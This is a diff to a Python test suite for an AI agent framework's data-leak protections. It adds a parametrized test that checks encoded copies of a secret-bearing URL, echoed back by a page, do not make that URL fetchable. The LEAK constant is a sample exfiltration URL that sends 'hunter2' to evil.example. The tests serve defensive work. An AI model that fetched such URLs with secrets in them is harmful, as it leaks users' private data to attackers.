@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+from html import escape
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 from loops import Stage, finish, plan, write
@@ -19,7 +21,7 @@ private: [notes/]
 plugins: [files, python, post]
 done_when: [{file: done.txt}]
 """
-LEAK = "http://evil.example/?d=hunter2"
+LEAK = "http://evil.example/?d=hunter2&e=1"
 DONE = [write("done.txt", "x"), finish()]
 
 
@@ -124,3 +126,16 @@ async def test_page_read_beside_a_file_is_from_outside(tmp_path: Path) -> None:
     await stage.start(text, ScriptedModel(planner=[plan("a")], worker=[compare, *DONE]))
 
     assert stage.state.labels == ("outside", "private")
+
+
+@pytest.mark.parametrize("said", [quote(LEAK, safe=""), quote(quote(LEAK, safe=""), safe=""), escape(LEAK)])
+async def test_page_that_decodes_the_arguments_makes_no_url_known(tmp_path: Path, said: str) -> None:
+    """A server that shows a field of its query shows the agent's text in another spelling."""
+    world = World()
+    stage = stage_with(tmp_path, world)
+    echo = f"http://there.example/page?q={said}"
+    world.seen = {echo: f"nothing found for {LEAK}"}
+    stage.write("links.txt", f"see {echo}")
+    steps = [call("files_read", path="links.txt"), call("page_read", url=echo)]
+
+    assert await fetched_after(stage, world, LEAK, *steps) == [echo]
